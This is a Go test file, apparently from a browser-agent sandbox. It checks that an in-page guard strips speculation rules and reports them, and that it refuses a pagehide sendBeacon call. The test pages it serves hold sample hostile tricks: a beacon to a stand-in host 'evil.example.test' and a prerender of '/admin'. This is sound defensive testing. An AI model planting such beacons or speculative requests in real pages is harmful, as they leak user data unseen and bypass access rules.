package browser

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	playwright "github.com/mxschmitt/playwright-go"

	"github.com/trapline/trapline/agentkit/evidence"
	"github.com/trapline/trapline/agentkit/policy"
)

// The in-page guard of the route gate: speculation rules are taken out of the document and reported,
// a beacon while the page is shown goes out through ctx.Route, a beacon from pagehide is refused and reported, and each
// refusal is a route-gate violation with the policy's rule (or unseen_channel for an allowed URL).
func TestUnseenGuard(t *testing.T) {
	hits := make(chan string, 16)
	mux := http.NewServeMux()
	mux.HandleFunc("/pratiche/a", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, `<!doctype html><title>a</title><p>a</p>
<script type="speculationrules">{"prerender": [{"source": "list", "urls": ["/admin"]}], "prefetch": [{"source": "list", "urls": ["/pratiche/c"]}]}</script>
<script>window.addEventListener("pagehide", () => { sessionStorage.setItem("sent", String(navigator.sendBeacon("http://evil.example.test/bp/leave", "x"))); });</script>`)
	})
	mux.HandleFunc("/pratiche/", func(w http.ResponseWriter, r *http.Request) {
		hits <- r.Method + " " + r.URL.Path
		fmt.Fprint(w, "<!doctype html><title>b</title><p>b</p>")
	})
	mux.HandleFunc("/admin", func(w http.ResponseWriter, r *http.Request) { hits <- r.Method + " " + r.URL.Path })
	sess, rec, _, _ := portalSession(t, mux)
	page := sess.Page()
	if _, err := page.Goto("http://portale.interno.test/pratiche/a"); err != nil {
		t.Fatal(err)
	}
	waitFor := func(what string, ok func([]evidence.Violation) bool) []evidence.Violation {
		t.Helper()
		deadline := time.Now().Add(20 * time.Second)
		for {
			vs := rec.Violations()
			if ok(vs) {
				return vs
			}
			if time.Now().After(deadline) {
				t.Fatalf("%s: violations %+v", what, vs)
			}
			time.Sleep(50 * time.Millisecond) // a wait on the recorder, bounded
		}
	}
	has := func(rule, url string) func([]evidence.Violation) bool {
		return func(vs []evidence.Violation) bool {
			for _, v := range vs {
				if v.ByRouteGate() && v.Rule.String() == rule && v.URL == url {
					return true
				}
			}
			return false
		}
	}
	waitFor("speculation rules of /admin", has(string(policy.RuleDenyPath), "http://portale.interno.test/admin"))
	waitFor("speculation rules of an allowed path", has(string(policy.RuleUnseenChannel), "http://portale.interno.test/pratiche/c"))
	n, err := page.Locator(`script[type="speculationrules"]`).Count()
	if err != nil || n != 0 {
		t.Fatalf("speculation rules left in the document: %d, %v", n, err)
	}
	sent, err := page.Evaluate(`() => navigator.sendBeacon("/pratiche/shown", "x")`)
	if err != nil || sent != true {
		t.Fatalf("a beacon while the page is shown: %v, %v (want sent, through the route gate)", sent, err)
	}
	// It goes out as usual, so the route gate sees it (and denies it: POST is not an allowed write).
	waitFor("the shown page's beacon at the route gate", has(string(policy.RuleWriteNotAllowed), "http://portale.interno.test/pratiche/shown"))
	if _, err := page.Goto("http://portale.interno.test/pratiche/b", playwright.PageGotoOptions{}); err != nil {
		t.Fatal(err)
	}
	sentOnLeave, _ := page.Evaluate(`() => sessionStorage.getItem("sent")`)
	t.Logf("pagehide sendBeacon returned %v", sentOnLeave)
	waitFor("the pagehide beacon", has(string(policy.RuleHostNotAllowed), "http://evil.example.test/bp/leave"))
	close(hits)
	for h := range hits {
		if strings.Contains(h, "admin") || h == "GET /pratiche/c" {
			t.Errorf("a speculative request reached the site: %s", h)
		}
	}
}

// TestUnseenGuardReadsRulesThatArriveInParts: speculation rules whose text reaches the browser after
// the script's start tag (the response flushed in between) are reported by the URLs they name, and
// taken out of the document. In CI (session 15, load 8.7) the guard once reported the bypass page's
// rules by the page's own URL, the fallback for a rule text that does not parse, so the bypass suite's
// speculation-rules arm never saw its probe refused. The guard now reads the text once it is whole
// (unseen.go). This test does not reproduce that run (Chromium here shows the element only with its
// text); it holds the guard to its contract when the text comes late.
func TestUnseenGuardReadsRulesThatArriveInParts(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("/pratiche/parti", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, `<!doctype html><title>parti</title><p>a</p><script type="speculationrules">`)
		w.(http.Flusher).Flush()
		select { // the parser has the element, and none of its text, meanwhile
		case <-time.After(300 * time.Millisecond):
		case <-r.Context().Done():
			return
		}
		fmt.Fprint(w, `{"prerender": [{"source": "list", "urls": ["/admin"]}]}</script><p>b</p>`)
	})
	mux.HandleFunc("/admin", func(w http.ResponseWriter, r *http.Request) {
		t.Errorf("a speculative request reached the site: %s %s", r.Method, r.URL.Path)
	})
	sess, rec, _, _ := portalSession(t, mux)
	if _, err := sess.Page().Goto("http://portale.interno.test/pratiche/parti"); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(10 * time.Second)
	for {
		vs := rec.Violations()
		if len(vs) > 0 {
			if len(vs) != 1 || vs[0].URL != "http://portale.interno.test/admin" || vs[0].Rule != policy.RuleDenyPath {
				t.Fatalf("want one deny_path refusal of /admin, got %+v", vs)
			}
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the speculation rules were never reported")
		}
		time.Sleep(50 * time.Millisecond) // a wait on the recorder, bounded
	}
	if n, err := sess.Page().Locator(`script[type="speculationrules"]`).Count(); err != nil || n != 0 {
		t.Fatalf("speculation rules left in the document: %d, %v", n, err)
	}
}
